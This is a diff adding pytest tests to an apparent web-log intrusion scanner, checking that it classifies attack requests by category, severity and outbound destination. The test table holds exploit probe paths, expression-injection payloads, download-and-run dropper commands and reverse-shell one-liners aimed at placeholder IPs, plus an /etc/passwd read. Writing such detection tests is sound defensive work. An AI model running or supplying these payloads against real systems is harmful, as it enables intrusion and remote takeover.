@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import subprocess
 import sys
 import time
@@ -13,10 +14,12 @@ import pytest
 from conftest import GOOD_PACK, SAMPLE_LOGS, combined_line
 from dropscan.engine import default_signatures
 from dropscan.errors import UsageError
+from dropscan.logformat import compile_format
 from dropscan.selftest import lint_all, run_example
 from dropscan.signatures import SignatureSet, lint_pattern
 
 SIGS = default_signatures()
+COMBINED = compile_format("combined")
 
 
 @pytest.mark.parametrize("sig", SIGS.signatures, ids=lambda s: s.id)
@@ -96,6 +99,78 @@ def test_duplicate_ids_refused(tmp_path):
     _pack(tmp_path, GOOD, "b.yaml")
     with pytest.raises(UsageError, match="already defined"):
         SignatureSet.load(tmp_path)
+
+
+def test_every_signature_names_an_attack_technique():
+    for s in SIGS.signatures:
+        assert any(re.search(r"attack\.mitre\.org/techniques/T\d{4}", r) for r in s.references), s.id
+
+
+# The breadth the detection issue asks for: (target, category, severity, destination or None).
+BREADTH = [
+    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "rce-probe", "medium", None),
+    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "rce-probe", "medium", None),
+    ("/GponForm/diag_Form?images/", "rce-probe", "medium", None),
+    ("/ctrlt/DeviceUpgrade_1", "rce-probe", "medium", None),
+    ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array", "rce-probe", "medium", None),
+    ("/index.php?XDEBUG_SESSION_START=phpstorm", "rce-probe", "medium", None),
+    ("/boaform/admin/formPing", "rce-probe", "medium", None),
+    (
+        "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
+        "rce-probe",
+        "medium",
+        None,
+    ),
+    (
+        "/x.action?${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
+        "expression",
+        "high",
+        None,
+    ),
+    ("/x?name=T(java.lang.Runtime).getRuntime().exec('id')", "expression", "high", None),
+    ("/x?c=;fetch -o /tmp/x http://198.51.100.30/x", "dropper", "critical", "198.51.100.30:80"),
+    ("/x?c=;ftpget -P 2121 198.51.100.31 a.sh a.sh", "dropper", "critical", "198.51.100.31:2121"),
+    ("/x?c=;tftp -g -r m 198.51.100.32", "dropper", "critical", "198.51.100.32:69"),
+    ("/x?c=;lynx -source http://198.51.100.33/x.sh>x.sh", "dropper", "critical", "198.51.100.33:80"),
+    ("/x?c=;wget -qO- http://198.51.100.34/i.sh|sh", "dropper", "critical", "198.51.100.34:80"),
+    ("/x?c=;curl http://198.51.100.35/i|bash", "dropper", "critical", "198.51.100.35:80"),
+    (
+        "/x?c=;python -c 'import socket;s=socket.socket();s.connect((\"198.51.100.36\",4444))'",
+        "reverse-shell",
+        "critical",
+        "198.51.100.36:4444",
+    ),
+    ("/x?c=;perl -e 'use Socket;$i=\"198.51.100.37\";$p=4445;'", "reverse-shell", "critical", "198.51.100.37:4445"),
+    ("/x?c=;php -r '$s=fsockopen(\"198.51.100.38\",4446);'", "reverse-shell", "critical", "198.51.100.38:4446"),
+    (
+        "/x?c=;ruby -rsocket -e'TCPSocket.open(\"198.51.100.39\",4447)'",
+        "reverse-shell",
+        "critical",
+        "198.51.100.39:4447",
+    ),
+    ("/x?c=;nc -e /bin/sh 198.51.100.40 4448", "reverse-shell", "critical", "198.51.100.40:4448"),
+    ("/x?c=;ncat 198.51.100.41 4449 -e /bin/bash", "reverse-shell", "critical", "198.51.100.41:4449"),
+    ("/x?c=;socat tcp:198.51.100.42:4450 exec:sh", "reverse-shell", "critical", "198.51.100.42:4450"),
+    (
+        "/x?c=;telnet 198.51.100.43 4451 | /bin/sh | telnet 198.51.100.43 4452",
+        "reverse-shell",
+        "critical",
+        "198.51.100.43:4451",
+    ),
+    ("/x?c=;python -c 'print(1)'", "rce", "high", None),
+    ("/cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd", "rce", "high", None),
+]
+
+
+@pytest.mark.parametrize(("target", "category", "severity", "dest"), BREADTH, ids=[b[0][:60] for b in BREADTH])
+def test_issue_breadth_and_severity_order(full_scanner, target, category, severity, dest):
+    """Severity says what to read first: a dropper or reverse shell with a destination (critical)
+    above command injection without a download (high) above a probe (medium)."""
+    finding, _ = full_scanner.scan_line(combined_line(target.replace(" ", "%20")).rstrip(b"\n"), COMBINED)
+    assert finding is not None
+    assert (finding.category, finding.severity) == (category, severity), finding.rule_ids
+    got = {f"{d.host}:{d.port}" for d in finding.egress}
+    assert (dest in got) if dest else not got
 
 
 # --- packs from elsewhere, through the console entry (so exit codes are the real ones) -------
